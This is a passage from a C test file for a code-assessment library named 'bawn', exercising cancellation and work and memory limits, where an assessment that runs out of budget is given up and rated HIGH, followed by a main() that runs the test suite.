		ok(r == 0, "%s: %s", row[i].name, r < 0 ? err.msg : a->unfinished != NULL ? a->unfinished : "assessed");
		bawn_assessment_free(a);
	}
	size_t cancel = 1;
	bawn_auto_buf b = BAWN_BUF(4u << 20);
	repeat(&b, "x = [1, 2, 3]\n", 70000);
	struct bawn_assess_file f = { .language = BAWN_LANG_PYTHON, .bytes = bawn_buf_span(&b) };
	struct bawn_assessment *a = NULL;
	struct bawn_err err = { 0 };
	struct bawn_tree_limit cancelled = { .work = UINT64_MAX, .bytes = SIZE_MAX, .time_us = 10000000, .cancel = &cancel };
	ok(bawn_assess_with(&bawn_rules, &f, 1, NULL, &cancelled, &a, &err) == 0 && a->unfinished != NULL, "it can be cancelled");
	bawn_assessment_free(a);
	static const struct { const char *name; uint64_t work; size_t bytes; } least[] = {
		{ "work for the parser", 1000000, SIZE_MAX }, { "work for the reader", 30000000, SIZE_MAX },
		{ "memory for the parser", UINT64_MAX, 1u << 20 }, { "memory for the reader", UINT64_MAX, 45u << 20 },
	};
	for (size_t i = 0; i < BAWN_LEN(least); i++) {
		struct bawn_tree_limit most = { .work = least[i].work, .bytes = least[i].bytes, .time_us = 10000000 };
		err = (struct bawn_err){ 0 };
		int r = bawn_assess_with(&bawn_rules, &f, 1, NULL, &most, &a, &err);
		ok(r == 0 && err.code == 0 && a->level == BAWN_LEVEL_HIGH && a->unfinished != NULL && finding(a, "bawn/assessment-failed") != NULL,
		   "without enough %s it is given up, and counts as HIGH: %s", least[i].name, r == 0 ? a->unfinished : err.msg);
		bawn_assessment_free(a);
	}
}

int main(void)
{
	test_places();
	test_policy();
	test_files();
	test_complexity();
	test_comments();
	test_arithmetic();
	test_own_rules();
	test_grammar();
	test_many_names();
	test_what_is_not_followed();
	test_many_findings();
	test_full_list();
	test_no_room();
	test_many_rules();
	test_time();
	test_bounds();
	return done_testing();
}
